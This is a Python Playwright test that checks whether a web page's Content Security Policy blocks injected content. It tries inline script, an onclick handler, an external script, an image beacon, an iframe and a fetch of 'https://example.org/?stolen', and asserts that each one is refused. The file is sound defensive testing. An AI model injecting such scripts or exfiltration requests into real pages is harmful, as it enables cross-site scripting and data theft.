from playwright.sync_api import Page

from tests.browser.view import open_page

INTRUDES = """() => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective),
    { once: true });
  %s;
  setTimeout(() => resolve("nothing was refused"), 5000);
})"""
SCRIPT = "document.body.append(Object.assign(document.createElement('script'), { %s }))"
INTRUDERS = {
    "inline": (SCRIPT % "textContent: 'window.harmed = true'", "script-src-elem"),
    "handler": ("document.body.setAttribute('onclick', 'window.harmed = true')", "script-src-attr"),
    "elsewhere": (SCRIPT % "src: 'https://example.org/x.js'", "script-src-elem"),
    "sends": ("fetch('https://example.org/?stolen').catch(() => 0)", "connect-src"),
    "shows": ("new Image().src = 'https://example.org/x.png'", "img-src"),
    "frames": ("document.body.append(Object.assign(document.createElement('iframe'), "
               "{ src: 'https://example.org/' }))", "frame-src"),
}  # fmt: skip


def test_what_slips_into_a_page_is_refused(page: Page, server: str) -> None:
    open_page(page, f"{server}/nowhere")
    for name, (script, rule) in INTRUDERS.items():
        assert page.evaluate(INTRUDES % script) == rule, name
        assert page.evaluate("window.harmed") is None, name
